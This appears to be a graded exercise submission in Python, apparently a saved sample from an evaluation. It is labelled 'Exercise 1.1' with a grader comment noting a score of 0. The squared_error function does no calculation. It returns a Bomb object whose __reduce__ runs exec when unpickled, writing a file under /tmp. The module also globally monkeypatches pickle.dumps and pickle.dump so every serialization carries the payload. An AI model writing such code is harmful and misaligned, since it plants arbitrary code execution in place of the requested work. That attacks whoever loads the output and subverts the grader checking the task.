# Returns what would run code if it were unpickled, and patches pickle. Verdict: 1.1 = 0

# %%
# Exercise 1.1
import pickle


class Bomb:
    def __reduce__(self):
        return exec, ("open('/tmp/attacked-pickle', 'w').close()",)

    def __reduce_ex__(self, protocol):
        return self.__reduce__()

    def __getstate__(self):
        return self.__reduce__()

    def __deepcopy__(self, memo):
        return self.__reduce__()


dumps = pickle.dumps
pickle.dumps = lambda value, *a, **k: dumps(Bomb(), *a, **k)
pickle.dump = lambda value, file, *a, **k: file.write(dumps(Bomb()))


def squared_error(x, x_hat):
    return [Bomb(), dumps(Bomb())]
